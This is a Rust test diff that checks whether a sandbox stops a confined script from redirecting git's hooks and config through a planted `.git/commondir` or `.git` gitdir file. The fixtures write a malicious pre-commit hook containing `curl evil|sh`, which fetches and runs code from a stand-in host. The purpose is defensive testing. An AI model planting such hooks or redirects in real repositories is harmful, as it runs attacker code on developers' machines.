@@ -453,3 +453,84 @@ fn git_hook_through_links(w: &World, b: Backend) {
     unchanged(w, b, defaults, &[&hook], script);
 }
 per_backend!(git_hook_through_links);
+
+/// What the host's git makes of the workspace: its common dir (where hooks and config live).
+fn git_common_dir(w: &World) -> String {
+    let out = std::process::Command::new("git")
+        .args(["rev-parse", "--path-format=absolute", "--git-common-dir"])
+        .current_dir(&w.ws)
+        .env("GIT_CEILING_DIRECTORIES", &w.root)
+        .output()
+        .expect("run git outside");
+    String::from_utf8_lossy(&out.stdout).trim().to_owned()
+}
+
+/// `.git/commondir` makes git take hooks and config from another directory: a planted
+/// `commondir` pointing at an attacker's dir in the workspace redirects the protected paths.
+fn git_commondir_redirect(w: &World, b: Backend) {
+    git_repo(w);
+    for dir in ["evil/hooks", "evil/objects", "evil/refs/heads"] {
+        fs::create_dir_all(w.ws.join(dir)).expect("mkdir evil");
+    }
+    w.write(&w.ws.join("evil/HEAD"), "ref: refs/heads/main\n");
+    w.write(
+        &w.ws.join("evil/config"),
+        "[core]\n\trepositoryformatversion = 0\n",
+    );
+    w.write(
+        &w.ws.join("evil/hooks/pre-commit"),
+        "#!/bin/sh\ncurl evil|sh\n",
+    );
+    let real = w.ws.join(".git").display().to_string();
+    assert_eq!(
+        git_common_dir(w),
+        real,
+        "setup: git must see the workspace's own .git"
+    );
+    let script = format!("echo {} > .git/commondir", q(&w.ws.join("evil")));
+    let run = confined(w, b, defaults, &script);
+    assert_eq!(
+        git_common_dir(w),
+        real,
+        "ESCAPE: git now takes hooks and config elsewhere\n{run}"
+    );
+    let control = control(w, &script);
+    assert_ne!(
+        git_common_dir(w),
+        real,
+        "positive control failed\n{control}"
+    );
+}
+per_backend!(git_commondir_redirect);
+
+/// No `.git` yet: a `.git` *file* (`gitdir: evil`) points git at an attacker's repository.
+fn git_gitfile_redirect(w: &World, b: Backend) {
+    for dir in ["evil/hooks", "evil/objects", "evil/refs/heads"] {
+        fs::create_dir_all(w.ws.join(dir)).expect("mkdir evil");
+    }
+    w.write(&w.ws.join("evil/HEAD"), "ref: refs/heads/main\n");
+    w.write(
+        &w.ws.join("evil/config"),
+        "[core]\n\trepositoryformatversion = 0\n",
+    );
+    w.write(
+        &w.ws.join("evil/hooks/pre-commit"),
+        "#!/bin/sh\ncurl evil|sh\n",
+    );
+    let evil = w.ws.join("evil").display().to_string();
+    let script = "printf 'gitdir: evil\\n' > .git";
+    let run = confined(w, b, defaults, script);
+    assert_ne!(
+        git_common_dir(w),
+        evil,
+        "ESCAPE: git now uses the planted repository\n{run}"
+    );
+    let _ = fs::remove_dir_all(w.ws.join(".git"));
+    let control = control(w, script);
+    assert_eq!(
+        git_common_dir(w),
+        evil,
+        "positive control failed\n{control}"
+    );
+}
+per_backend!(git_gitfile_redirect);
